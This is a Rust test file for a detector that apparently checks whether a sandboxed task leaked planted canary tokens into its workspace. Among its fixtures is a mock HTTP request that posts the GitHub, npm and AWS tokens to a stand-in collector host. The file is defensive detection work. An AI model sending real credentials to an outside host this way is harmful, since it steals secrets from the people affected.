use super::*;
use crate::changes::{Settings, Snapshot, exclusions};
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;

const GH: &str = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
const NPM: &str = "npm_0123456789abcdefghijABCDEFGHIJ012345";
const AWS: &str = "AWS0123456789abcdefghijABCDEFGHIJ0123456";
/// A file canary's value (`~/.aws/credentials`).
const CRED: &str = "wJalrXUtnFEMI0123456789abcdefghijKLMNOPQR";

fn tokens() -> Vec<Token> {
    [("$GITHUB_TOKEN", GH), ("$NPM_TOKEN", NPM), ("$AWS_SECRET_ACCESS_KEY", AWS), ("~/.aws/credentials", CRED)]
        .iter()
        .map(|(s, v)| Token { source: s.to_string(), value: v.to_string() })
        .collect()
}

fn set_xattr(p: &Path, name: &str, value: &[u8]) {
    let fd = crate::sys::open_path(p, false).unwrap();
    let name = std::ffi::CString::new(name).unwrap();
    crate::sys::xattr_fd(&fd, &name, Some((value, 0))).unwrap();
}

/// The workspace at `root` changed by `change`, judged (with `max_listed`).
fn judged(root: &Path, max_listed: usize, change: impl FnOnce()) -> (Vec<Violation>, crate::changes::WorkspaceChanges) {
    let settings = Settings { max_listed, ..Settings::default() };
    let snap = Snapshot::take(root, exclusions(root, &[]), settings).unwrap();
    change();
    let mut judge = Judge::new(&tokens());
    let mut changes = snap.compare_inspecting(Some(&mut |s| judge.see(s)));
    let found = judge.into_violations();
    crate::canary::scrub_changes(&mut changes, &tokens());
    (found, changes)
}

fn details(v: &[Violation], rule: Rule) -> Vec<String> {
    v.iter().filter(|v| v.rule == rule).map(|v| v.detail.clone()).collect()
}

#[test]
fn names_link_targets_attributes_and_contents_are_judged_and_scrubbed() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    // Many ordinary files first: the judged entries lie past the listed ones.
    let (found, changes) = judged(r, 3, || {
        for i in 0..10 {
            fs::write(r.join(format!("0-{i}")), "plain").unwrap();
        }
        fs::write(r.join(format!("n-{GH}")), "x").unwrap();
        symlink(NPM, r.join("lnk")).unwrap();
        fs::write(r.join("xa"), "x").unwrap();
        set_xattr(&r.join("xa"), "user.k", AWS.as_bytes());
        fs::create_dir(r.join("xd")).unwrap();
        set_xattr(&r.join("xd"), &format!("user.{NPM}"), b"v");
        fs::create_dir_all(r.join(&GH[..10]).join(&GH[10..20])).unwrap();
        fs::write(r.join(&GH[..10]).join(&GH[10..20]).join(&GH[20..]), "x").unwrap();
        let mut big = vec![b'A'; (1 << 20) + 16];
        big.extend_from_slice(GH.as_bytes());
        fs::write(r.join("big"), big).unwrap();
        fs::write(r.join("shut"), AWS).unwrap();
        fs::set_permissions(r.join("shut"), fs::Permissions::from_mode(0o000)).unwrap();
    });
    let leaks = details(&found, Rule::CanaryLeak);
    let has = |needle: &str| leaks.iter().any(|l| l.contains(needle));
    assert!(has("left n-[canary] in the workspace: its path holds the canary planted as $GITHUB_TOKEN"), "{leaks:#?}");
    assert!(has("symbolic link lnk whose target holds the canary planted as $NPM_TOKEN"), "{leaks:#?}");
    assert!(
        has("left xa with the extended attribute user.k whose value holds the canary planted as $AWS"),
        "{leaks:#?}"
    );
    assert!(has("left xd with an extended attribute whose name holds the canary planted as $NPM_TOKEN"), "{leaks:#?}");
    assert!(has(&format!("left {}/{}/{} in the workspace", &GH[..10], &GH[10..20], &GH[20..])), "{leaks:#?}");
    assert!(has("the canary planted as $GITHUB_TOKEN into big"), "{leaks:#?}");
    assert!(has("the canary planted as $AWS_SECRET_ACCESS_KEY into shut"), "root reads a mode-0 file: {leaks:#?}");
    let all = format!("{found:?} {}", serde_json::to_string(&changes).unwrap());
    for v in [GH, NPM, AWS] {
        assert!(!all.contains(v), "{v} named: {all}");
    }
    assert!(changes.truncated && changes.entries.len() == 3, "{changes:?}");
    // What the task changed is put back as it left it.
    assert_eq!(fs::metadata(r.join("shut")).unwrap().permissions().mode() & 0o7777, 0);
}

#[test]
fn ordinary_names_attributes_and_contents_pass() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    let (found, changes) = judged(r, 1000, || {
        fs::create_dir_all(r.join("target/debug/.fingerprint")).unwrap();
        fs::write(r.join("target/debug/app"), vec![7u8; 3 << 20]).unwrap();
        fs::write(r.join("README ghp_ npm_ AKIA.md"), "ghp_ and npm_ prefixes alone are no canary").unwrap();
        set_xattr(&r.join("target/debug/app"), "user.mime_type", b"application/octet-stream");
        symlink("debug/app", r.join("target/app")).unwrap();
    });
    assert!(found.is_empty(), "{found:#?}");
    assert!(changes.entries.iter().any(|e| e.target.as_deref() == Some("debug/app")), "{changes:?}");
}

#[test]
fn a_workspace_the_task_makes_too_large_to_walk_is_skipped_not_a_violation() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    let bounds = crate::changes::walk::Bounds { max_entries: 50, ..Settings::default().bounds };
    let settings = Settings { bounds, ..Settings::default() };
    let snap = Snapshot::take(r, exclusions(r, &[]), settings).unwrap();
    for i in 0..60 {
        fs::write(r.join(format!("f{i}")), "x").unwrap();
    }
    fs::write(r.join("zz"), GH).unwrap();
    let mut judge = Judge::new(&tokens());
    let changes = snap.compare_inspecting(Some(&mut |s| judge.see(s)));
    assert!(changes.skipped.is_some(), "{changes:?}");
    // A large build's tree is no sign of a leak: said in the report (skipped), no exit 4.
    let found = judge.into_violations();
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn a_listing_of_the_environment_is_no_leak_and_a_value_written_on_its_own_still_is() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    let (found, _) = judged(r, 100, || {
        // meson's testlog.txt and testlog.json shapes.
        fs::write(
            r.join("testlog.txt"),
            format!("Inherited environment: GITHUB_TOKEN={GH} HOME=/root NPM_TOKEN={NPM} PATH=/usr/bin:/bin AWS_SECRET_ACCESS_KEY={AWS} LANG=C\n"),
        )
        .unwrap();
        fs::write(
            r.join("testlog.json"),
            format!("{{\"env\": {{\"GITHUB_TOKEN\": \"{GH}\", \"NPM_TOKEN\": \"{NPM}\", \"PATH\": \"/usr/bin\", \"HOME\": \"/root\", \"AWS_SECRET_ACCESS_KEY\": \"{AWS}\"}}}}\n"),
        )
        .unwrap();
    });
    assert!(found.is_empty(), "{found:?}");
    let (found, _) = judged(r, 100, || {
        // One value staged on its own, next to PATH: a leak.
        fs::write(r.join("staged"), format!("PATH=/usr/bin\nHOME=/root\nGITHUB_TOKEN={GH}\n")).unwrap();
        // Every value, but one under another name: a leak.
        fs::write(r.join("renamed"), format!("PATH=/bin HOME=/root GITHUB_TOKEN={GH} NPM_TOKEN={NPM} KEY={AWS}\n"))
            .unwrap();
        // Every value behind its name, with HOME but without PATH: no listing of the environment.
        fs::write(
            r.join("nopath"),
            format!("HOME=/root GITHUB_TOKEN={GH} NPM_TOKEN={NPM} AWS_SECRET_ACCESS_KEY={AWS}\n"),
        )
        .unwrap();
    });
    let leaks = details(&found, Rule::CanaryLeak);
    for name in ["staged", "renamed", "nopath"] {
        assert!(leaks.iter().any(|d| d.contains(name)), "{name} passed: {leaks:?}");
    }
}

/// Whether one of `leaks` is about `file` and names `source`.
fn named_in(leaks: &[String], file: &str, source: &str) -> bool {
    leaks.iter().any(|d| d.contains(file) && d.contains(source))
}

#[test]
fn a_listing_of_the_environment_lets_through_only_the_variables_behind_their_own_names() {
    // Review 84 F1: the first value found was a listed variable, so the rest
    // of the file went unsearched.
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    let listing =
        format!("GITHUB_TOKEN={GH}\nNPM_TOKEN={NPM}\nPATH=/usr/bin\nHOME=/root\nAWS_SECRET_ACCESS_KEY={AWS}\n");
    let (found, _) = judged(r, 100, || {
        // A file canary written after the listing.
        fs::write(r.join("stolen"), format!("{listing}aws_secret_access_key = {CRED}\n")).unwrap();
        // A listed value again, under another name.
        fs::write(r.join("again"), format!("{listing}X={GH}\n")).unwrap();
        // A listed value behind a longer name that ends in its own.
        fs::write(r.join("longer"), format!("{listing}MYNPM_TOKEN={NPM}\n")).unwrap();
        // A listed value on its own, after the listing.
        fs::write(r.join("alone"), format!("{listing}{AWS}\n")).unwrap();
    });
    let leaks = details(&found, Rule::CanaryLeak);
    let named = |file: &str, source: &str| named_in(&leaks, file, source);
    assert!(named("stolen", "~/.aws/credentials"), "{leaks:?}");
    assert!(named("again", "$GITHUB_TOKEN"), "{leaks:?}");
    assert!(named("longer", "$NPM_TOKEN"), "{leaks:?}");
    assert!(named("alone", "$AWS_SECRET_ACCESS_KEY"), "{leaks:?}");
    assert_eq!(leaks.len(), 4, "{leaks:?}");
    for v in &leaks {
        for value in [GH, NPM, AWS, CRED] {
            assert!(!v.contains(value), "{v}");
        }
    }
    // Review 85 FP2: Python's repr of `os.environ` and Node's
    // `util.inspect(process.env)` are listings too, with the same rule.
    let python = format!(
        "environ({{'GITHUB_TOKEN': '{GH}', 'NPM_TOKEN': '{NPM}', 'PATH': '/usr/bin', 'HOME': '/root', 'AWS_SECRET_ACCESS_KEY': '{AWS}'}})\n"
    );
    let node = format!(
        "{{\n  GITHUB_TOKEN: '{GH}',\n  NPM_TOKEN: \"{NPM}\",\n  PATH: '/usr/bin',\n  HOME: '/root',\n  AWS_SECRET_ACCESS_KEY: '{AWS}'\n}}\n"
    );
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    let (found, _) = judged(r, 100, || {
        fs::write(r.join("debug.log"), &python).unwrap();
        fs::write(r.join("env.log"), &node).unwrap();
    });
    assert!(found.is_empty(), "{found:?}");
    let (found, _) = judged(r, 100, || {
        fs::write(r.join("pylonger"), format!("{python}'MYNPM_TOKEN': '{NPM}'\n")).unwrap();
        fs::write(r.join("nodelonger"), format!("{node}  MYGITHUB_TOKEN: '{GH}'\n")).unwrap();
        fs::write(r.join("nodeother"), format!("{node}  X: '{AWS}'\n")).unwrap();
    });
    let leaks = details(&found, Rule::CanaryLeak);
    assert!(named_in(&leaks, "pylonger", "$NPM_TOKEN"), "{leaks:?}");
    assert!(named_in(&leaks, "nodelonger", "$GITHUB_TOKEN"), "{leaks:?}");
    assert!(named_in(&leaks, "nodeother", "$AWS_SECRET_ACCESS_KEY"), "{leaks:?}");
    // The same listing twice (a log appended to) is still one.
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    let (found, _) = judged(r, 100, || fs::write(r.join("twice"), format!("{listing}{listing}")).unwrap());
    assert!(found.is_empty(), "{found:?}");
}

/// Review 86 FP1: environment dumps in other common shapes are listings too
/// (one reader of entries: a name, blanks, `=`, `:` or `=>`, blanks, a
/// quote), with the same rule.
#[test]
fn perl_python_bytes_toml_and_spaced_json_dumps_of_the_environment_are_listings() {
    let vars = [
        ("GITHUB_TOKEN", GH),
        ("NPM_TOKEN", NPM),
        ("PATH", "/usr/bin"),
        ("HOME", "/root"),
        ("AWS_SECRET_ACCESS_KEY", AWS),
    ];
    let dump = |entry: &dyn Fn(&str, &str) -> String| vars.iter().map(|(n, v)| entry(n, v)).collect::<String>();
    let dumps = [
        ("dumper.txt", format!("$VAR1 = {{\n{}}};\n", dump(&|n, v| format!("          '{n}' => '{v}',\n")))),
        ("environb.txt", format!("environ({{{}}})\n", dump(&|n, v| format!("b'{n}': b'{v}', ")))),
        ("env.toml", dump(&|n, v| format!("{n} = \"{v}\"\n"))),
        ("env.ini", format!("[env]\n{}", dump(&|n, v| format!("{n} = {v}\n")))),
        ("env.json", format!("{{\n{}}}\n", dump(&|n, v| format!("  \"{n}\" : \"{v}\",\n")))),
        ("declare.txt", dump(&|n, v| format!("declare -x {n}=\"{v}\"\n"))),
        // Review 87 FP2: Python's sorted(os.environ.items()) and a tab-separated listing.
        ("items.txt", format!("[{}]\n", dump(&|n, v| format!("('{n}', '{v}'), ")))),
        ("env.tsv", dump(&|n, v| format!("{n}\t{v}\n"))),
    ];
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    let (found, _) = judged(r, 100, || {
        for (name, text) in &dumps {
            fs::write(r.join(name), text).unwrap();
        }
    });
    assert!(found.is_empty(), "{found:?}");
    // The same rule: a value under a longer name or another one after the dump is a leak.
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    let (found, _) = judged(r, 100, || {
        for (name, text) in &dumps {
            fs::write(r.join(name), format!("{text}MYGITHUB_TOKEN = '{GH}'\n")).unwrap();
        }
    });
    let leaks = details(&found, Rule::CanaryLeak);
    for (name, _) in &dumps {
        assert!(named_in(&leaks, name, "$GITHUB_TOKEN"), "{name}: {leaks:?}");
    }
}

/// Review 86 FN1: files meant to carry the values, not dumps of the
/// environment, are no listing: `PATH` must be an entry of its own name
/// (`CLASSPATH=`, `MANPATH=` are not), and `PATH` and `HOME` entries must be
/// written like the variables' and near them.
#[test]
fn a_file_that_only_names_the_variables_is_no_listing() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    let (found, _) = judged(r, 100, || {
        fs::write(
            r.join("Dockerfile"),
            format!("FROM alpine\nENV CLASSPATH=/app HOME=/root GITHUB_TOKEN={GH} NPM_TOKEN={NPM} AWS_SECRET_ACCESS_KEY={AWS}\n"),
        )
        .unwrap();
        fs::write(
            r.join("request.http"),
            format!("POST https://collector.example/x\nX-Cfg: MANPATH=/x HOME=/h\nGITHUB_TOKEN: {GH}\nNPM_TOKEN: {NPM}\nAWS_SECRET_ACCESS_KEY: {AWS}\n"),
        )
        .unwrap();
        // PATH and HOME entries, but written otherwise than the variables'.
        fs::write(
            r.join("mixed"),
            format!("PATH=/usr/bin\nHOME=/root\nGITHUB_TOKEN: {GH}\nNPM_TOKEN: {NPM}\nAWS_SECRET_ACCESS_KEY: {AWS}\n"),
        )
        .unwrap();
        // A listing, and far past it the values again.
        let listing =
            format!("GITHUB_TOKEN={GH}\nNPM_TOKEN={NPM}\nPATH=/usr/bin\nHOME=/root\nAWS_SECRET_ACCESS_KEY={AWS}\n");
        let far = format!("{listing}{}\nGITHUB_TOKEN={GH}\n", "x".repeat(NEAR + 16));
        fs::write(r.join("far"), far).unwrap();
    });
    let leaks = details(&found, Rule::CanaryLeak);
    for name in ["Dockerfile", "request.http", "mixed"] {
        assert!(leaks.iter().any(|d| d.contains(name)), "{name} passed: {leaks:?}");
    }
    assert!(named_in(&leaks, "far", "$GITHUB_TOKEN"), "{leaks:?}");
    assert_eq!(leaks.len(), 4, "{leaks:?}");
}
